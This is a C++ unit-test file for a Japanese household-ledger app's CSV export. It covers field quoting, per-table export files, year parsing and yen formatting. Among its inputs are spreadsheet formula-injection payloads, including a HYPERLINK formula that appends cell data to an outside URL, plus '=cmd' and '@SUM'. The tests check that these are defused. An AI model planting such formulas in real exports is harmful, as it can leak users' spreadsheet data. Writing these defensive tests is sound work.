// The CSV text a spreadsheet reads, the export's files made from tables in memory, and the
// amounts and years as the command line and the report show them.

#include "export/csv.h"
#include "export/ledger_export.h"
#include "export/year_figures.h"

#include <gtest/gtest.h>

#include <algorithm>

namespace sorakado {
namespace {

using exporting::LedgerTables;
using exporting::OutputFile;

const std::string kBom = "\xEF\xBB\xBF";

struct FieldCase {
    std::string text;
    std::string field;
};

class CsvFieldTest : public ::testing::TestWithParam<FieldCase> {};

TEST_P(CsvFieldTest, IsQuotedOnlyWhenItMustBe) {
    EXPECT_EQ(csv::field(GetParam().text), GetParam().field);
}

INSTANTIATE_TEST_SUITE_P(
    Rfc4180, CsvFieldTest,
    ::testing::Values(FieldCase{"", ""}, FieldCase{"食費", "食費"},
                      FieldCase{"  spaces kept  ", "  spaces kept  "}, FieldCase{"a,b", "\"a,b\""},
                      FieldCase{"say \"hi\"", "\"say \"\"hi\"\"\""}, FieldCase{"\"", "\"\"\"\""},
                      FieldCase{"一\n二", "\"一\n二\""}, FieldCase{"一\r\n二", "\"一\r\n二\""},
                      FieldCase{"cr\r", "\"cr\r\""}, FieldCase{"'quote' ; tab\t", "'quote' ; tab\t"}));

class CsvTextFieldTest : public ::testing::TestWithParam<FieldCase> {};

TEST_P(CsvTextFieldTest, NeverRunsAsAFormulaInASpreadsheet) {
    EXPECT_EQ(csv::textField(GetParam().text), GetParam().field);
}

INSTANTIATE_TEST_SUITE_P(Owasp, CsvTextFieldTest,
                         ::testing::Values(FieldCase{"=HYPERLINK(\"http://x/?\"&A1,\"見る\")",
                                                     "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"見る\"\")\""},
                                           FieldCase{"+81-3", "\"'+81-3\""}, FieldCase{"-500", "\"'-500\""},
                                           FieldCase{"@SUM(A1)", "\"'@SUM(A1)\""},
                                           FieldCase{"\tタブ", "\"'\tタブ\""}, FieldCase{"\r=1", "\"'\r=1\""},
                                           FieldCase{"ﾌｧﾐﾘｰﾏｰﾄ", "ﾌｧﾐﾘｰﾏｰﾄ"}, FieldCase{"a=b", "a=b"},
                                           FieldCase{"", ""}, FieldCase{"＝全角", "\"'＝全角\""}));

TEST(CsvDocumentTest, NumberColumnsKeepTheirSign) {
    EXPECT_EQ(csv::document({"詳細", "金額"}, {{"-返金", "-500"}}, {1}),
              kBom + "詳細,金額\r\n\"'-返金\",-500\r\n");
}

TEST(CsvDocumentTest, StartsWithTheByteOrderMarkAndEndsEveryRecordWithCrLf) {
    EXPECT_EQ(csv::document({"日付", "金額"}, {{"2006/04/05", "2000"}, {"", ""}, {"a,b", "0.3"}}),
              kBom + "日付,金額\r\n2006/04/05,2000\r\n,\r\n\"a,b\",0.3\r\n");
    EXPECT_EQ(csv::document({"名前ID", "名前"}, {}), kBom + "名前ID,名前\r\n");
}

const OutputFile& named(const std::vector<OutputFile>& files, const std::string& name) {
    auto it = std::find_if(files.begin(), files.end(), [&](const OutputFile& f) { return f.name == name; });
    if (it == files.end())
        throw std::runtime_error("no file " + name);
    return *it;
}

TEST(CsvFilesTest, WriteExactAmountsKeepNullsEmptyAndListRowsWhoseParentIsGone) {
    LedgerTables t;
    t.year = 2006;
    t.members = {{1, "父"}, {2, std::nullopt}};
    t.categories = {{3, "日用品, 雑貨"}, {4, std::nullopt}};
    const Amount tenth = Amount::fromTenThousandths(1000);
    t.entries = {
        {10, "2006/01/05", 3, "日用品, 雑貨", "電気\r\nガス", Amount::fromTenThousandths(80002500)},
        {11, "2006/02/01", 77, std::nullopt, std::nullopt, Amount::fromYen(-30)}, // category 77 is gone
        {12, std::nullopt, std::nullopt, std::nullopt, "\"特売\"", std::nullopt},
        {13, "2006/03/01", 4, std::nullopt, "0.1+0.2", tenth + Amount::fromTenThousandths(2000)},
    };
    t.incomes = {{"2006/01", 1, "父", Amount::fromYen(9'007'199'254'740'993)},
                 {"2006/02", 9, std::nullopt, std::nullopt}};
    t.summary = {{"2006/01", Amount::fromYen(300000), Amount::fromTenThousandths(3)}};

    recurring::Stored rent;
    rent.key = 7;
    rent.categoryKey = 3;
    rent.categoryName = "日用品, 雑貨";
    rent.description = "=cmd";
    rent.amount = Amount::fromYen(80000);
    rent.day = 0;
    rent.from = "2006/01";
    rent.posted = "2006/02/28";
    recurring::Stored salary;
    salary.key = 8;
    salary.memberKey = 1;
    salary.memberName = "父";
    salary.amount = Amount::fromYen(300000);
    salary.from = "2006/01";
    salary.until = "2006/12";
    t.recurring = {rent, salary};

    auto files = exporting::csvFiles(t);
    ASSERT_EQ(files.size(), 6u);
    EXPECT_EQ(files[0].name, "entries-2006.csv");
    EXPECT_EQ(named(files, "entries-2006.csv").bytes,
              kBom + "日付,項目名,詳細,金額,明細ID,品目ID\r\n"
                     "2006/01/05,\"日用品, 雑貨\",\"電気\r\nガス\",8000.25,10,3\r\n"
                     "2006/02/01,,,-30,11,77\r\n"
                     ",,\"\"\"特売\"\"\",,12,\r\n"
                     "2006/03/01,,0.1+0.2,0.3,13,4\r\n");
    EXPECT_EQ(named(files, "incomes-2006.csv").bytes,
              kBom + "年月,名前,収入,名前ID\r\n2006/01,父,9007199254740993,1\r\n2006/02,,,9\r\n");
    EXPECT_EQ(named(files, "members-2006.csv").bytes, kBom + "名前ID,名前\r\n1,父\r\n2,\r\n");
    EXPECT_EQ(named(files, "categories-2006.csv").bytes,
              kBom + "品目ID,項目名\r\n3,\"日用品, 雑貨\"\r\n4,\r\n");
    EXPECT_EQ(named(files, "summary-2006.csv").bytes,
              kBom + "年月,収入,出費,差額\r\n2006/01,300000,0.0003,299999.9997\r\n");
    EXPECT_EQ(named(files, "recurring-2006.csv").bytes,
              kBom +
                  "定期ID,品目ID,項目名,名前ID,名前,詳細,金額,日,毎年の月,予定,最初の月,最後の月,記入済\r\n"
                  "7,3,\"日用品, 雑貨\",,,\"'=cmd\",80000,0,,毎月 末日,2006/01,,2006/02/28\r\n"
                  "8,,,1,父,,300000,,,毎月 (収入),2006/01,2006/12,\r\n");
}

TEST(CsvFilesTest, TheWholeLedgerGoesUnderNamesWithoutAYear) {
    std::vector<std::string> names;
    for (const auto& f : exporting::csvFiles(LedgerTables{}))
        names.push_back(f.name);
    EXPECT_EQ(names, (std::vector<std::string>{"entries.csv", "incomes.csv", "members.csv", "categories.csv",
                                               "summary.csv", "recurring.csv"}));
}

struct YearCase {
    std::string text;
    std::optional<int> year;
};

class ParseYearTest : public ::testing::TestWithParam<YearCase> {};

TEST_P(ParseYearTest, TakesFourDigitsFrom1900To3000) {
    EXPECT_EQ(yearly::parseYear(GetParam().text), GetParam().year) << GetParam().text;
}

INSTANTIATE_TEST_SUITE_P(Years, ParseYearTest,
                         ::testing::Values(YearCase{"2006", 2006}, YearCase{"1900", 1900},
                                           YearCase{"3000", 3000}, YearCase{"1899", std::nullopt},
                                           YearCase{"3001", std::nullopt}, YearCase{"0999", std::nullopt},
                                           YearCase{"206", std::nullopt}, YearCase{"20061", std::nullopt},
                                           YearCase{"２００６", std::nullopt}, YearCase{"20a6", std::nullopt},
                                           YearCase{" 2006", std::nullopt}, YearCase{"-2006", std::nullopt},
                                           YearCase{"", std::nullopt}));

TEST(GroupedAmountTest, GroupsTheWholePartByThousandsAndKeepsTheSignAndFractionExact) {
    const struct {
        Amount amount;
        const char* number;
        const char* yen;
    } cases[] = {
        {Amount(), "0", "¥0"},
        {Amount::fromYen(999), "999", "¥999"},
        {Amount::fromYen(1000), "1,000", "¥1,000"},
        {Amount::fromYen(1234567), "1,234,567", "¥1,234,567"},
        {Amount::fromYen(-30), "-30", "-¥30"},
        {Amount::fromYen(-1000000), "-1,000,000", "-¥1,000,000"},
        {Amount::fromTenThousandths(12345675000), "1,234,567.5", "¥1,234,567.5"},
        {Amount::fromTenThousandths(-1), "-0.0001", "-¥0.0001"},
        {Amount::fromYen(9'223'372'036'854'775'807), "9,223,372,036,854,775,807",
         "¥9,223,372,036,854,775,807"},
    };
    for (const auto& c : cases) {
        EXPECT_EQ(yearly::groupedNumber(c.amount), c.number);
        EXPECT_EQ(yearly::groupedYen(c.amount), c.yen);
    }
}

} // namespace
} // namespace sorakado
